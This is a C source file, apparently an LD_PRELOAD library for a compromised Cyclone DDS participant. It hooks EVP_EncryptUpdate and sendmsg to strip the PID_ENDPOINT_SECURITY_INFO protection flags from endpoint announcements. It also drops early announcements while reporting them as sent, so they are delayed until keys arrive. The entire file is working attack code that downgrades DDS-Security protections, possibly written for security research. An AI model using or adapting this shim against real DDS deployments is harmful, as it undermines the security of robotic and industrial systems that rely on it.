/* Preloaded into a compromised participant of Cyclone DDS (PRESENTED_PERMISSIONS names what it presents): of what it
 * announces of its endpoints it leaves out the flags that protect them (DDS-Security 1.1, 7.4.1.5.6,
 * PID_ENDPOINT_SECURITY_INFO), and it announces them late, when its keys have arrived.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>

enum { SECONDS_LATE = 2 };

typedef struct evp_cipher_ctx_st EVP_CIPHER_CTX;

static __thread int announces;

/* A copy in which each such parameter is a PID_PAD. */
static unsigned char *without_flags(const unsigned char *octets, size_t length)
{
    static const unsigned char flags[] = {0x04, 0x10, 0x08, 0x00};
    unsigned char *copy = malloc(length + 1);
    memcpy(copy, octets, length);
    for (size_t i = 0; getenv("PRESENTED_PERMISSIONS") != NULL && i + sizeof flags <= length; i += 4)
        if (memcmp(copy + i, flags, sizeof flags) == 0) {
            copy[i] = copy[i + 1] = 0;
            announces = 1;
        }
    return copy;
}

int EVP_EncryptUpdate(EVP_CIPHER_CTX *context, unsigned char *out, int *written, const unsigned char *in, int length)
{
    static int (*real)(EVP_CIPHER_CTX *, unsigned char *, int *, const unsigned char *, int);
    if (real == NULL)
        *(void **)&real = dlsym(RTLD_NEXT, "EVP_EncryptUpdate");
    unsigned char *plain = in == NULL || length < 0 ? NULL : without_flags(in, (size_t)length);
    int result = real(context, out, written, plain == NULL ? in : plain, length);
    free(plain);
    return result;
}

ssize_t sendmsg(int socket, const struct msghdr *message, int flags)
{
    static ssize_t (*real)(int, const struct msghdr *, int);
    static time_t begin;
    size_t length = 0;
    unsigned char whole[1 << 16];
    if (real == NULL)
        *(void **)&real = dlsym(RTLD_NEXT, "sendmsg");
    if (begin == 0)
        begin = time(NULL);
    for (size_t i = 0; i < message->msg_iovlen; i++) {
        const struct iovec *part = &message->msg_iov[i];
        if (length + part->iov_len > sizeof whole)
            return real(socket, message, flags);
        memcpy(whole + length, part->iov_base, part->iov_len);
        length += part->iov_len;
    }
    struct iovec one = {without_flags(whole, length), length};
    struct msghdr changed = *message;
    changed.msg_iov = &one;
    changed.msg_iovlen = 1;
    int early = announces && time(NULL) - begin < SECONDS_LATE;
    announces = 0;
    ssize_t result = early ? (ssize_t)length : real(socket, &changed, flags); /* it is asked for again */
    free(one.iov_base);
    return result;
}
